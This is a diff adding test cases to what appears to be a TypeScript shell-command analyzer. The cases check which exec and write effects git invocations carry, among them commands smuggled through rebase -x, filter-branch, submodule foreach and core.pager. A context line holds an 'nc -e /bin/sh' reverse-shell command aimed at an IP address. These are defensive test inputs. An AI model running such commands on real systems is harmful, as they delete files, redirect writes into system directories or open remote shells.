@@ -510,6 +510,54 @@ const programs: readonly Case[] = [
   ],
   ['git shell alias', `git -c alias.x='!rm y' x`, ['exec git -c alias.x=!rm y x', 'exec rm y', 'write y']],
   [
+    'git submodule foreach runs a command line',
+    "git submodule foreach 'rm -f y'",
+    ['exec git submodule foreach rm -f y', 'exec rm -f y', 'write y', 'write .', 'write ./'],
+  ],
+  [
+    'git bisect run runs its argv',
+    'git bisect run rm y',
+    ['exec git bisect run rm y', 'exec rm y', 'write y', 'write .', 'write ./'],
+  ],
+  [
+    'git rebase -x runs a command line',
+    "git rebase -x 'rm y' HEAD~2",
+    ['exec git rebase -x rm y HEAD~2', 'exec rm y', 'write y', 'write .', 'write ./'],
+  ],
+  [
+    'git filter-branch filters are command lines',
+    "git filter-branch --tree-filter 'rm y'",
+    ['exec git filter-branch --tree-filter rm y', 'exec rm y', 'write y', 'write .', 'write ./'],
+  ],
+  [
+    'git difftool -x runs a command line',
+    "git difftool -x 'rm y'",
+    ['exec git difftool -x rm y', 'exec rm y', 'write y'],
+  ],
+  [
+    'git config keeps a command for later',
+    "git config core.pager 'rm y'",
+    ['exec git config core.pager rm y', 'exec rm y', 'write y', 'write .', 'write ./'],
+  ],
+  [
+    'git config of a hook path is unknown',
+    'git config core.hooksPath /tmp',
+    ['exec git config core.hooksPath /tmp', 'unknown', 'write .', 'write ./'],
+  ],
+  ['git config reading writes nothing', 'git config user.name', ['exec git config user.name']],
+  ['a git subcommand git does not have is unknown', 'git x', ['exec git x', 'unknown']],
+  [
+    'git commit writes the repository',
+    'git -C /srv/app commit -m x',
+    ['exec git -C /srv/app commit -m x', 'write /srv/app', 'write /srv/app/'],
+  ],
+  ['git log reads', 'git log -1', ['exec git log -1']],
+  [
+    'GIT_WORK_TREE moves the work tree',
+    'GIT_WORK_TREE=/etc git checkout -f',
+    ['unknown', 'exec git checkout -f', 'write .', 'write ./'],
+  ],
+  [
     'nc -e runs a program',
     'nc -e /bin/sh 10.0.0.1 80',
     ['exec nc -e /bin/sh 10.0.0.1 80', 'exec /bin/sh', 'exec sh', 'unknown'],
